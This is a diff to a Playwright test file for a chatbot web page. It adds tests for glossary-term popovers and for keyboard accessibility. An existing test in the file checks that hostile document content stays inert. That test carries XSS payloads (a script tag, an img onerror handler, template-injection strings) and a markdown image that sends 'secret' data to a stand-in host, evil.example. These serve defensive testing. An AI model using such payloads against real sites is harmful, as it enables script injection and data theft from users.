@@ -17,7 +17,7 @@ from urllib.request import Request, urlopen
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe
-from fake_bot import KEPT, QUESTIONS, FakeBot
+from fake_bot import HACK, KEPT, QUESTIONS, SPEED, FakeBot
 from playwright.sync_api import Browser, Page, expect, sync_playwright
 
 from bot import Bot, SettingError, Turn
@@ -124,6 +124,9 @@ def test_ask_in_a_language_and_follow_the_citation(chromium: Browser, address: s
     if language != "en":
         expect(page.locator(".k-card:visible .k-original mark").first).to_have_text(KEPT["en"])
         expect(page.locator(".k-card:visible .k-original blockquote").first).to_have_attribute("lang", "en")
+    page.locator(".k-term[data-term=gigabyte]").click()
+    expect(page.locator("#k-term blockquote")).to_have_text(SPEED[language])
+    expect(page.locator("#k-term")).to_contain_text(words.page["noun"])
     assert not visit.errors
     page.close()
 
@@ -184,6 +187,35 @@ def test_a_chip_works_by_keyboard_and_escape_leads_back(visit: Visit) -> None:
     expect(chip).to_be_focused()
 
 
+def test_a_term_opens_by_keyboard_or_a_click_and_closes_again(visit: Visit) -> None:
+    visit.ask(QUESTIONS["en"])
+    page, shown = visit.page, visit.page.locator("#k-term:popover-open")
+    word, other = page.locator(".k-term[data-term=gigabyte]"), page.locator(".k-term[data-term=Restoring]")
+    word.focus()
+    page.keyboard.press("Enter")
+    expect(shown).to_be_focused()
+    expect(word).to_have_attribute("aria-expanded", "true")
+    page.keyboard.press("Tab")
+    page.keyboard.press("Tab")
+    expect(shown.get_by_role("link")).to_be_focused()
+    page.keyboard.press("Escape")
+    expect(word).to_be_focused()
+    expect(word).to_have_attribute("aria-expanded", "false")
+    word.click()
+    expect(shown).to_be_visible()
+    word.click()
+    expect(shown).to_have_count(0)
+    other.click()
+    expect(shown).to_contain_text(locale("en").page["term_kept"])
+    expect(shown).to_be_in_viewport(ratio=1)
+    shown.get_by_role("button").click()
+    expect(shown).to_have_count(0)
+    word.evaluate("word => (word.dataset.term = 'gone')")
+    page.locator(".k-term[data-term=gone]").click()
+    expect(page.locator(".k-term")).to_have_count(1)  # what the term file no longer has is a word like others
+    assert page.request.get(f"{page.url}term?name=gone").status == 404
+
+
 def test_a_chip_of_an_earlier_answer_brings_its_own_cards(visit: Visit) -> None:
     visit.ask(QUESTIONS["sv"])
     visit.ask("Which plans are there?")
@@ -202,8 +234,12 @@ def test_a_hostile_document_stays_a_text(chromium: Browser, address: str) -> Non
     expect(page.locator(".k-card")).to_contain_text("<script>window.hacked = true; alert(1)</script>")
     expect(page.locator(".k-quote")).to_contain_text("![picture](http://evil.example/collect?data=secret)")
     expect(page.locator(".k-question")).to_have_text("hostile <img src=x onerror=alert(0)> ${alert(0)} {{x}} $$x^2$$")
+    page.locator(".k-term").click()
+    expect(page.locator("#k-term h2")).to_have_text("words")
+    expect(page.locator("#k-term .k-term-note").first).to_have_text(HACK)
     page.wait_for_timeout(500)
     assert visit.settled("window.hacked") is None
+    assert visit.settled("document.querySelectorAll('#k-term :is(script,img)').length") == 0
     assert visit.settled("[...document.scripts].filter(s => /alert|hacked/.test(s.text)).length") == 0
     assert (
         visit.settled(
@@ -586,6 +622,10 @@ def test_nothing_of_a_page_keeps_anybody_out(chromium: Browser, address: str, sc
     page.locator(".k-turn").first.locator(".k-chip").first.click()
     page.wait_for_timeout(1700)  # what lights up has its own colours
     look()
+    page.locator(".k-term").first.click()
+    expect(page.locator("#k-term blockquote")).to_be_visible()
+    look()
+    page.keyboard.press("Escape")
     page.locator(".k-turn").first.get_by_role("button", name=words["unhelpful"]).click()
     look()
     for path in ("contents", "read/translations/da/guide/backup.md?at=60-100", "read/plans.md", "read/none"):
